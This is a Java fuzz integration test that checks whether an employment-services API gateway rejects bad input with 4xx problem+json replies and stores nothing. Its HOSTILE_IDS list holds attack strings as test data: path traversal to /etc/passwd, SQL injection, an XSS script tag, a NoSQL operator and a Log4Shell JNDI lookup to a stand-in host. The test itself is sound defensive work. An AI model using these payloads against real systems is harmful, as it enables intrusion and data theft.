package fi.ips.system;

import com.jayway.jsonpath.JsonPath;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

import static fi.ips.system.RunningPlatform.post;
import static fi.ips.system.RunningPlatform.token;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Bad input against the public API, through the gateway: malformed JSON, wrong types, unknown
 * fields, invalid dates, unknown region codes, personal identity codes in every text field, path
 * traversal and injection strings in ids, huge bodies, wrong media types. Every answer is a 4xx
 * problem+json (never a 5xx), and nothing is stored: the services' accepted-events counters do
 * not move. The mutations are drawn at random (the seed is printed; {@code -Dips.fuzz.seed=N}
 * repeats a run) on top of a fixed set that always runs.
 */
class FuzzIT {

    private static final long SEED = Long.getLong("ips.fuzz.seed", System.nanoTime());
    private static final int RANDOM_CASES = Integer.getInteger("ips.fuzz.cases", 400);

    /**
     * A request body the API would accept, field by field (the fuzzer breaks one thing at a time),
     * and the id in its path: an existing client's or job's, in the state where the request, unbroken,
     * would store an event; so that nothing but the broken body stands between it and storing.
     */
    private record Endpoint(String path, String target, Map<String, Object> body, List<String> dates, List<String> texts,
                            List<String> enums, List<String> required) {
    }

    /**
     * The endpoints, aimed at the clients of region 10 made for the test: {@code referred} and
     * {@code declining} wait for their agreement (so one may sign and have its referral date
     * corrected, the other decline: the two exclude each other), {@code agreed}
     * has an agreement, a job and studies (so it may end and start more). The ids in the bodies (a
     * referral's clientId, a job's and studies' ids) are new, so that a broken request let through
     * would store an event. In an order in which each, unbroken, is accepted (the service ends last).
     */
    private static List<Endpoint> endpoints(String referred, String declining, String agreed, String jobId, String suffix) {
        return List.of(
                new Endpoint("/api/v1/referrals", null, fields("clientId", "fz-new-client-" + suffix, "region", "10", "referredOn", "2022-03-01",
                        "source", "SELF_REFERRAL", "ageGroup", "25-34"),
                        List.of("referredOn"), List.of("clientId", "region", "ageGroup"), List.of("source"), List.of("region", "referredOn", "source")),
                new Endpoint("/api/v1/referrals/{id}/corrections/referral-date", referred, fields("referredOn", "2022-03-02"),
                        List.of("referredOn"), List.of(), List.of(), List.of("referredOn")),
                new Endpoint("/api/v1/referrals/{id}/agreement", referred, fields("signedOn", "2022-03-10"),
                        List.of("signedOn"), List.of(), List.of(), List.of("signedOn")),
                new Endpoint("/api/v1/referrals/{id}/decline", declining, fields("on", "2022-03-10", "reason", "OTHER"),
                        List.of("on"), List.of(), List.of("reason"), List.of("on", "reason")),
                new Endpoint("/api/v1/jobs", null, fields("jobId", "fz-new-job-" + suffix, "clientId", agreed, "startedOn", "2022-04-01",
                        "jobType", "PAID_OPEN_MARKET", "weeklyHours", 20, "employerSector", "PRIVATE", "occupation", 5, "fixedTerm", false),
                        List.of("startedOn"), List.of("jobId", "clientId"), List.of("jobType", "employerSector"), List.of("clientId", "startedOn", "jobType")),
                new Endpoint("/api/v1/jobs/{id}/end", jobId, fields("endedOn", "2022-05-01", "reason", "OTHER"),
                        List.of("endedOn"), List.of(), List.of("reason"), List.of("endedOn", "reason")),
                new Endpoint("/api/v1/studies", null, fields("studyId", "fz-new-study-" + suffix, "clientId", agreed, "startedOn", "2022-04-01"),
                        List.of("startedOn"), List.of("studyId", "clientId"), List.of(), List.of("clientId", "startedOn")),
                new Endpoint("/api/v1/referrals/{id}/end", agreed, fields("endedOn", "2022-06-01", "reason", "GOAL_ACHIEVED"),
                        List.of("endedOn"), List.of(), List.of("reason"), List.of("endedOn", "reason")));
    }

    private static final List<String> PERSONAL_IDENTITY_CODES = List.of("131052-308T", "010594Y9021", "020300A999X", "131052+308T");
    private static final List<String> BAD_DATES = List.of("2022-13-01", "2022-02-30", "30.4.2022", "", "0000-00-00",
            "2022-03-01T00:00:00Z", "+999999999-12-31", "2014-12-31", "2999-01-01", "yesterday");
    private static final List<String> BAD_REGIONS = List.of("00", "99", "1", "XX", "141", "", "14 ", "٠١");
    private static final List<String> HOSTILE_IDS = List.of("../../etc/passwd", "..\\..\\windows", "' OR '1'='1", "1; DROP TABLE token_entry",
            "<script>alert(1)</script>", "${jndi:ldap://x.test/a}", "a\u0000b", "x".repeat(65), "ä", " ", "{\"$ne\":null}", "%2e%2e%2f");
    private static final List<String> MALFORMED = List.of("{not json", "", "null", "[]", "\"text\"", "{\"a\":", "{}}", "{'single':'quotes'}",
            "[".repeat(5_000), "{\"x\":" + "[".repeat(3_000) + "]".repeat(3_000) + "}", "\u0000\u0001\u0002");

    @Test
    void everyBadRequestIsA4xxProblemAndStoresNothing() throws Exception {
        Random random = new Random(SEED);
        String county = token("region-10");

        // Real clients of region 10, one referred and one with an agreement, a job and studies, through valid
        // requests: the counter read must see each of them stored (else a zero below would prove nothing).
        AcceptedEvents.Count beforeSetup = AcceptedEvents.settled(FuzzIT::fuzzed);
        String suffix = Long.toString(SEED & 0xffffff, 36);
        String referred = "fz-referred-" + suffix;
        String declining = "fz-declining-" + suffix;
        String clientId = "fz-client-" + suffix;
        String jobId = "fz-job-" + suffix;
        String studyId = "fz-study-" + suffix;
        expect(post("/api/v1/referrals", county, "{\"clientId\":\"" + declining + "\",\"region\":\"10\",\"referredOn\":\"2022-03-01\",\"source\":\"SELF_REFERRAL\"}"), 201);
        expect(post("/api/v1/referrals", county, "{\"clientId\":\"" + referred + "\",\"region\":\"10\",\"referredOn\":\"2022-03-01\",\"source\":\"SELF_REFERRAL\"}"), 201);
        expect(post("/api/v1/referrals", county, "{\"clientId\":\"" + clientId + "\",\"region\":\"10\",\"referredOn\":\"2022-03-01\",\"source\":\"SELF_REFERRAL\"}"), 201);
        expect(post("/api/v1/referrals/" + clientId + "/agreement", county, "{\"signedOn\":\"2022-03-10\"}"), 200);
        // placement-service hears of the agreement through Kafka: until then it refuses the client.
        expect(untilAdmitted(() -> post("/api/v1/jobs", county, "{\"jobId\":\"" + jobId + "\",\"clientId\":\"" + clientId
                + "\",\"startedOn\":\"2022-04-01\",\"jobType\":\"PAID_OPEN_MARKET\"}")), 201);
        expect(post("/api/v1/studies", county, "{\"studyId\":\"" + studyId + "\",\"clientId\":\"" + clientId + "\",\"startedOn\":\"2022-04-01\"}"), 201);
        AcceptedEvents.Count acceptedBefore = AcceptedEvents.settled(FuzzIT::fuzzed);
        assertThat(acceptedBefore.series()).as("ips_events_accepted_total series found").isPositive();
        assertThat(acceptedBefore.total() - beforeSetup.total()).as("events stored by the six valid requests").isEqualTo(6);

        List<Endpoint> endpoints = endpoints(referred, declining, clientId, jobId, suffix);
        List<String> failures = new ArrayList<>();
        int sent = 0;

        for (Endpoint endpoint : endpoints) {
            for (String body : MALFORMED) {
                sent += check(failures, "POST", path(endpoint, endpoint.target()), body, "application/json", county);
            }
            for (String field : endpoint.body().keySet()) {
                for (Object wrong : List.of(1234, 12.5, true, List.of("a"), Map.of("a", 1))) {
                    if (!wrong.getClass().isInstance(endpoint.body().get(field)) && !(wrong instanceof Number && endpoint.body().get(field) instanceof Number)) {
                        sent += check(failures, "POST", path(endpoint, endpoint.target()), json(with(endpoint.body(), field, wrong)), "application/json", county);
                    }
                }
            }
            for (String field : endpoint.required()) {
                sent += check(failures, "POST", path(endpoint, endpoint.target()), json(with(endpoint.body(), field, null)), "application/json", county);
            }
            for (String unknown : List.of("name", "hetu", "diagnosis", "firstName", "Matti Meikäläinen")) {
                Map<String, Object> body = new LinkedHashMap<>(endpoint.body());
                body.put(unknown, "x");
                sent += check(failures, "POST", path(endpoint, endpoint.target()), json(body), "application/json", county);
            }
            for (String field : endpoint.dates()) {
                for (String date : BAD_DATES) {
                    sent += check(failures, "POST", path(endpoint, endpoint.target()), json(with(endpoint.body(), field, date)), "application/json", county);
                }
            }
            for (String field : concat(endpoint.texts(), endpoint.enums(), endpoint.dates())) {
                for (String code : PERSONAL_IDENTITY_CODES) {
                    sent += check(failures, "POST", path(endpoint, endpoint.target()), json(with(endpoint.body(), field, code)), "application/json", county);
                }
            }
            for (String field : endpoint.texts()) {
                for (String hostile : HOSTILE_IDS) {
                    sent += check(failures, "POST", path(endpoint, endpoint.target()), json(with(endpoint.body(), field, hostile)), "application/json", county);
                }
            }
            if (endpoint.path().contains("{id}")) {
                for (String hostile : concat(HOSTILE_IDS, PERSONAL_IDENTITY_CODES)) {
                    sent += check(failures, "POST", path(endpoint, hostile), json(endpoint.body()), "application/json", county);
                }
            }
            sent += check(failures, "POST", path(endpoint, endpoint.target()), json(endpoint.body()), "text/plain", county);
            sent += check(failures, "POST", path(endpoint, endpoint.target()), "{\"clientId\":\"" + "x".repeat(2_000_000) + "\"}", "application/json", county);
        }
        for (String region : BAD_REGIONS) {
            sent += check(failures, "POST", "/api/v1/referrals", json(with(endpoints.get(0).body(), "region", region)), "application/json", county);
            sent += check(failures, "GET", "/api/v1/outcomes/regions/" + encode(region), null, null, county);
        }
        // Dates that are no dates (before 2015 only gives zeros, which is an answer).
        for (String date : List.of("2022-13-01", "2022-02-30", "30.4.2022", "0000-00-00", "2022-03-01T00:00:00Z", "+999999999-12-31", "yesterday")) {
            sent += check(failures, "GET", "/api/v1/outcomes/national?asOf=" + encode(date), null, null, county);
        }
        // Query parameters out of their bounds or forms, one at a time (a size over 500 was a 500 once).
        List<String> notNumbers = concat(List.of("abc", "1.5", "99999999999999999999"), PERSONAL_IDENTITY_CODES, HOSTILE_IDS);
        List<String> notDays = concat(List.of("2022-13-01", "2022-02-30", "30.4.2022", "0000-00-00", "2022-03-01T00:00:00Z",
                "+999999999-12-31", "yesterday", "2999-01-01"), PERSONAL_IDENTITY_CODES);
        Map<String, List<String>> badQueries = new LinkedHashMap<>();
        badQueries.put("/api/v1/referrals?page=", concat(List.of("-1"), notNumbers));
        badQueries.put("/api/v1/referrals?size=", concat(List.of("0", "-1", "501"), notNumbers));
        // A blank status is no status (Spring reads it as absent): every client, which is an answer.
        badQueries.put("/api/v1/referrals?status=", concat(List.of("SIGNED", "referred"), PERSONAL_IDENTITY_CODES,
                HOSTILE_IDS.stream().filter(id -> !id.isBlank()).toList()));
        badQueries.put("/api/v1/referrals?region=", BAD_REGIONS);
        badQueries.put("/api/v1/outcomes/monthly?to=2022-03&from=", concat(List.of("2022-13", "2022-1", "abc", "2030-01", "2000-01"),
                PERSONAL_IDENTITY_CODES));
        badQueries.put("/api/v1/outcomes/monthly?from=2022-01&to=2022-03&region=", BAD_REGIONS);
        badQueries.put("/api/v1/outcomes/regions?asOf=", notDays);
        badQueries.put("/api/v1/outcomes/public?asOf=", notDays);
        for (Map.Entry<String, List<String>> query : badQueries.entrySet()) {
            for (String value : query.getValue()) {
                sent += check(failures, "GET", query.getKey() + encode(value), null, null, county);
            }
        }
        for (String hostile : concat(HOSTILE_IDS, PERSONAL_IDENTITY_CODES)) {
            sent += check(failures, "GET", "/api/v1/referrals/" + encode(hostile), null, null, county);
            sent += check(failures, "GET", "/api/v1/clients/" + encode(hostile) + "/placements", null, null, county);
            sent += check(failures, "GET", "/api/v1/jobs/" + encode(hostile), null, null, county);
        }

        // Random combinations: several things broken at once, in random places.
        for (int i = 0; i < RANDOM_CASES; i++) {
            Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
            Map<String, Object> body = new LinkedHashMap<>(endpoint.body());
            int broken = 1 + random.nextInt(3);
            for (int b = 0; b < broken; b++) {
                breakOne(random, endpoint, body);
            }
            String text = json(body);
            if (random.nextInt(5) == 0) {
                text = text.substring(0, random.nextInt(text.length()));
            }
            String id = random.nextInt(4) == 0 ? HOSTILE_IDS.get(random.nextInt(HOSTILE_IDS.size())) : endpoint.target();
            sent += check(failures, "POST", path(endpoint, id), text, "application/json", county);
        }

        assertThat(failures).as("answers that were not 4xx problem+json, of " + sent + " (seed " + SEED + ")").isEmpty();
        assertThat(AcceptedEvents.settled(FuzzIT::fuzzed).total() - acceptedBefore.total())
                .as("events stored while fuzzing (seed " + SEED + ")").isZero();

        // The control of the fuzzing's aim: each endpoint's body, unbroken, sent to its target, is stored.
        List<String> refused = new ArrayList<>();
        for (Endpoint endpoint : endpoints) {
            HttpResponse<String> response = post(path(endpoint, endpoint.target()), county, json(endpoint.body()));
            if (response.statusCode() != 200 && response.statusCode() != 201) {
                refused.add(endpoint.path() + " -> " + response.statusCode() + " " + shorten(response.body()));
            }
        }
        assertThat(refused).as("unbroken requests not accepted").isEmpty();
        assertThat(AcceptedEvents.settled(FuzzIT::fuzzed).total() - acceptedBefore.total())
                .as("events stored by the endpoints' unbroken requests after fuzzing").isEqualTo(endpoints.size());
    }

    /** The region the fuzzing submits to (county code 10), whose stored events are counted. */
    private static boolean fuzzed(String region) {
        return region.equals("10");
    }

    private static void expect(HttpResponse<String> response, int status) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
    }

    /** The job's start, tried again while placement-service does not yet know of the client's agreement (at most 30 s). */
    private static HttpResponse<String> untilAdmitted(java.util.function.Supplier<HttpResponse<String>> start) throws InterruptedException {
        long deadline = System.nanoTime() + java.time.Duration.ofSeconds(30).toNanos();
        HttpResponse<String> response = start.get();
        while (response.statusCode() != 201 && System.nanoTime() < deadline) {
            Thread.sleep(250);
            response = start.get();
        }
        return response;
    }

    /** Breaks one field so that the body cannot be valid: a wrong type, a bad date, an unknown field, an identity code, a hostile id. */
    private static void breakOne(Random random, Endpoint endpoint, Map<String, Object> body) {
        List<String> fields = new ArrayList<>(endpoint.body().keySet());
        String field = fields.get(random.nextInt(fields.size()));
        switch (random.nextInt(6)) {
            case 0 -> body.put(field, List.of(random.nextInt()));
            case 1 -> body.put("unexpected" + random.nextInt(100), random.nextBoolean());
            case 2 -> body.put(endpoint.dates().get(random.nextInt(endpoint.dates().size())), BAD_DATES.get(random.nextInt(BAD_DATES.size())));
            case 3 -> body.put(pick(random, concat(endpoint.texts(), endpoint.enums(), endpoint.dates())),
                    PERSONAL_IDENTITY_CODES.get(random.nextInt(PERSONAL_IDENTITY_CODES.size())));
            case 4 -> {
                List<String> texts = endpoint.texts().isEmpty() ? endpoint.dates() : endpoint.texts();
                body.put(pick(random, texts), HOSTILE_IDS.get(random.nextInt(HOSTILE_IDS.size())));
            }
            default -> body.put(pick(random, endpoint.required()), null);
        }
    }

    private static int check(List<String> failures, String method, String path, String body, String contentType, String token) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(RunningPlatform.gatewayUrl() + path));
        if (body != null) {
            request.header("Content-Type", contentType).method(method, HttpRequest.BodyPublishers.ofString(body));
        } else {
            request.method(method, HttpRequest.BodyPublishers.noBody());
        }
        HttpResponse<String> response;
        try {
            response = RunningPlatform.send(request.copy(), token);
            // The gateway's rate limit tells nothing of the request itself: it goes again once let through.
            for (int tries = 0; response.statusCode() == 429 && tries < 20; tries++) {
                Thread.sleep(500);
                response = RunningPlatform.send(request.copy(), token);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        } catch (RuntimeException e) {
            failures.add(method + " " + shorten(path) + " " + shorten(body) + " -> no answer: " + e);
            return 1;
        }
        int status = response.statusCode();
        String type = response.headers().firstValue("Content-Type").orElse("");
        boolean problem = type.startsWith("application/problem+json") && problemStatus(response.body()) == status;
        if (status < 400 || status > 499 || !problem) {
            failures.add(method + " " + shorten(path) + " " + shorten(body) + " -> " + status + " " + type + " " + shorten(response.body()));
        }
        return 1;
    }

    private static int problemStatus(String body) {
        try {
            return JsonPath.read(body, "$.status");
        } catch (RuntimeException notAProblem) {
            return -1;
        }
    }

    private static String path(Endpoint endpoint, String id) {
        return id == null ? endpoint.path() : endpoint.path().replace("{id}", encode(id));
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static Map<String, Object> fields(Object... keysAndValues) {
        Map<String, Object> fields = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            fields.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return fields;
    }

    private static Map<String, Object> with(Map<String, Object> body, String field, Object value) {
        Map<String, Object> changed = new LinkedHashMap<>(body);
        changed.put(field, value);
        return changed;
    }

    @SafeVarargs
    private static List<String> concat(List<String>... lists) {
        return java.util.Arrays.stream(lists).flatMap(List::stream).toList();
    }

    private static String pick(Random random, List<String> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String json(Object value) {
        if (value == null) {
            return "null";
        }
        if (value instanceof String text) {
            return "\"" + text.chars().mapToObj(c -> c == '"' || c == '\\' ? "\\" + (char) c
                    : c < 0x20 ? String.format("\\u%04x", c) : String.valueOf((char) c)).collect(Collectors.joining()) + "\"";
        }
        if (value instanceof Map<?, ?> map) {
            return map.entrySet().stream().map(e -> json(e.getKey()) + ":" + json(e.getValue())).collect(Collectors.joining(",", "{", "}"));
        }
        if (value instanceof List<?> list) {
            return list.stream().map(FuzzIT::json).collect(Collectors.joining(",", "[", "]"));
        }
        return value.toString();
    }

    private static String shorten(String text) {
        return text == null ? "" : text.length() > 120 ? text.substring(0, 120) + "…(" + text.length() + ")" : text;
    }
}
